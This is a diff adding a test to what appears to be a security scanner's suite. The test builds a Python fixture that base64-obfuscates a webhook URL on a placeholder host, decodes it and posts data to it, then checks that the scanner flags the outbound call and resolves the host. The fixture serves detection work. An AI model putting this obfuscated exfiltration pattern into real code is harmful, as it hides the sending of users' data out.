@@ -103,3 +103,16 @@ test('a module used without an import in this file (a star import, or a forgotte
   const run = findings(source).find((f) => f.rule === 'download-execute');
   assert.equal(run?.severity, 'critical');
 });
+
+test('a name decoded in place (`hook = b64decode(hook)`) holds the decoded text where it is used next', () => {
+  const hook = Buffer.from('https://hooks.example.invalid/api/webhooks/1/x').toString('base64');
+  const source = [
+    'import base64, requests',
+    'def report(data):',
+    `    hook = "${hook}"`,
+    '    hook = base64.b64decode(hook.encode())',
+    '    requests.post(hook, json=data)',
+  ].join('\n');
+  const call = findings(source).find((f) => f.rule === 'egress-network-call');
+  assert.equal(call?.destination?.host, 'hooks.example.invalid');
+});
